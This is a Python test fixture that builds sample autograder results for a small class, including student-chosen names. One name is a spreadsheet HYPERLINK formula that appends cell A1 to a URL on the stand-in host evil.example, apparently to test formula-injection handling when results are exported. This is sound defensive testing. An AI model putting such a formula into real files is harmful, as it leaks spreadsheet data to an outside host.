"""A small class's results with names that students could choose."""

from __future__ import annotations

from dataclasses import replace

from autograder.grading.record import Person
from autograder.grading.results import Result

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def result(student: str, total: float = 7.5, **person: str) -> Result:
    """Return one graded result of a lesson with 12 points, 5 of them for a written answer."""
    return Result(
        Person(student, **person),
        "graded",
        12.0,
        {"twice": 4.0, "half": 3.5},
        {"why": 0.0},
        waiting=5.0,
        penalty=0.0,
        total=total,
        level="namespaces",
        seconds=0.61,
        device="CPU",
    )


def classroom() -> list[Result]:
    """Return results of all kinds."""
    late = replace(result("bob", 5.25), penalty=2.25, waiting=0.0, reason="The cell -x, =1 was cut")
    failed = replace(result("cem", 0.0), status="failed", reason="no kernel")
    return [
        result("ada", name="김 한별", email="a@uni.kr"),
        late,
        failed,
        result("eve", name=FORMULA),
    ]
